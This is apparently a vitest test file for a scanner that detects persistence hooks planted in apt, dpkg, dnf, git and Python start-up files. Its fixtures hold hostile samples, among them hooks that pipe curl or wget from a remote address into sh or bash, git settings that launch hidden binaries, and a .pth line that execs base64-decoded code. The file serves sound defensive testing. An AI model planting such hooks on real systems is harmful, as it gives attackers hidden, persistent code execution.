import { describe, expect, it } from 'vitest';
import { at, blameOf, codesOf, scanDebian, script } from './packaged.ts';

describe('hooks of package managers', () => {
  it('blames an apt hook that fetches and runs, at its line, and neither settings nor the clean-up of images', async () => {
    const outcome = await scanDebian(
      {
        '/etc/apt/apt.conf.d/20listchanges':
          'DPkg::Pre-Install-Pkgs { "/usr/bin/apt-listchanges --apt"; };\n',
      },
      {
        '/etc/apt/apt.conf.d/99update':
          '// updates\nAPT::Update::Post-Invoke\n{\n  "(curl -s http://203.0.113.5/u || wget -qO- http://203.0.113.5/u) | sh";\n};\n',
        '/etc/apt/apt.conf.d/docker-clean':
          'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };\nDir::Cache::pkgcache ""; Dir::Cache::srcpkgcache "";\n',
        '/etc/apt/apt.conf.d/80proxy': 'Acquire::http::Proxy "http://proxy.example:3128";\n',
        '/etc/apt/apt.conf.d/90report': 'DPkg::Post-Invoke {"/usr/local/bin/report-packages";};\n',
      },
    );
    expect(at(outcome, '/etc/apt/apt.conf.d/99update')).toMatchObject({
      verdict: 'malicious',
      attack: ['T1546.016'],
      places: [{ line: 4 }],
      subject: { kind: 'file', role: 'tool-hook' },
    });
    expect(['benign', 'not mentioned']).toContain(blameOf(outcome, '/etc/apt/apt.conf.d/docker-clean'));
    expect(blameOf(outcome, '/etc/apt/apt.conf.d/80proxy')).toBe('not mentioned');
    expect(blameOf(outcome, '/etc/apt/apt.conf.d/90report')).toBe('unknown');
    expect(blameOf(outcome, '/etc/apt/apt.conf.d/20listchanges')).toBe('not mentioned');
  });

  it('blames hooks of dpkg and dnf, and takes out of dpkg.cfg only the line', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/etc/dpkg/dpkg.cfg': 'no-debsig\npost-invoke=/dev/shm/.d/x\nlog /var/log/dpkg.log\n',
        '/etc/dpkg/dpkg.cfg.d/excludes': 'path-exclude=/usr/share/man/*\n',
        '/etc/dnf/plugins/post-transaction-actions.d/a.action': '*:in:/var/tmp/.k/k $name\n',
        '/usr/lib/python3.9/site-packages/dnf-plugins/z.py':
          'import os\ndef config(self):\n    os.system("/tmp/.z/z &")\n',
      },
    );
    expect(at(outcome, '/etc/dpkg/dpkg.cfg')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file-line', role: 'tool-hook-line', line: { number: 2 } },
    });
    expect(blameOf(outcome, '/etc/dpkg/dpkg.cfg.d/excludes')).toBe('not mentioned');
    expect(blameOf(outcome, '/etc/dnf/plugins/post-transaction-actions.d/a.action')).toBe('malicious');
    expect(at(outcome, '/usr/lib/python3.9/site-packages/dnf-plugins/z.py')).toMatchObject({
      verdict: 'malicious',
      places: [{ line: 3 }],
    });
  });
});

describe('git', () => {
  it('blames a hook that fetches a program, and neither samples nor a check before a commit', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/home/ann/src/app/.git/hooks/post-checkout': script('curl -s http://203.0.113.6/p | bash'),
        '/home/ann/src/app/.git/hooks/pre-commit': script('npm run lint && npm test'),
        '/home/ann/src/app/.git/hooks/update.sample': script('curl -s http://203.0.113.6/p | bash'),
      },
    );
    const hooks = '/home/ann/src/app/.git/hooks';
    expect(at(outcome, `${hooks}/post-checkout`)).toMatchObject({
      verdict: 'malicious',
      attack: ['T1546'],
      owner: 'ann',
      places: [{ line: 2 }],
    });
    expect(blameOf(outcome, `${hooks}/pre-commit`)).toBe('not mentioned');
    expect(blameOf(outcome, `${hooks}/update.sample`)).toBe('not mentioned');
  });

  it('blames settings that start hidden programs, line by line, with the hooks that they lead to', async () => {
    const outcome = await scanDebian(
      {},
      {
        '/root/.gitconfig':
          '[user]\n\tname = Ann\n[core]\n\tpager = less -FRX\n\thooksPath = /var/tmp/.h\n[alias]\n\tst = status\n\tup = "!/dev/shm/.g/up && git pull"\n[credential]\n\thelper = store\n',
        '/var/tmp/.h/post-merge': script('/dev/shm/.g/up'),
        '/root/app/.git/config':
          '[core]\n\tbare = false\n\tfsmonitor = /tmp/.m/watch\n[remote "origin"]\n\turl = x\n',
      },
    );
    const lines = outcome.findings.filter(({ places }) => places[0]?.path === '/root/.gitconfig');
    expect(lines.map(({ places, verdict }) => [places[0]?.line, verdict]).toSorted()).toEqual([
      [5, 'suspicious'],
      [8, 'malicious'],
    ]);
    expect(at(outcome, '/root/app/.git/config')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file-line', role: 'tool-hook-line', line: { number: 3 } },
    });
    expect(blameOf(outcome, '/var/tmp/.h/post-merge')).toBe('malicious');
  });
});

describe('start-up of Python', () => {
  it('blames import lines that decode and run code, and not what virtualenv and editable installs write', async () => {
    const packages = '/usr/local/lib/python3.11/dist-packages';
    const outcome = await scanDebian(
      { '/usr/lib/python3/dist-packages/stock-nspkg.pth': 'import sys, types\n' },
      {
        [`${packages}/zz.pth`]: '/opt/lib\nimport base64; exec(base64.b64decode("cHJpbnQoMSk="))\n',
        [`${packages}/_virtualenv.pth`]: 'import _virtualenv',
        [`${packages}/__editable__.app-1.pth`]: '/home/ann/src/app\n',
        '/home/ann/.local/lib/python3.11/site-packages/usercustomize.py':
          'import subprocess\nsubprocess.Popen("/home/ann/.cache/.x/run &", shell=True)\n',
        '/usr/lib/python3.11/sitecustomize.py': '# nothing here\n',
      },
    );
    expect(at(outcome, `${packages}/zz.pth`)).toMatchObject({
      verdict: 'malicious',
      attack: ['T1546.018'],
      places: [{ line: 2 }],
    });
    expect(blameOf(outcome, `${packages}/_virtualenv.pth`)).toBe('not mentioned');
    expect(blameOf(outcome, `${packages}/__editable__.app-1.pth`)).toBe('not mentioned');
    expect(blameOf(outcome, '/usr/lib/python3.11/sitecustomize.py')).toBe('not mentioned');
    const custom = at(outcome, '/home/ann/.local/lib/python3.11/site-packages/usercustomize.py');
    expect(['suspicious', 'malicious']).toContain(custom?.verdict);
    expect(codesOf(custom)).toContain('python-runs');
  });
});
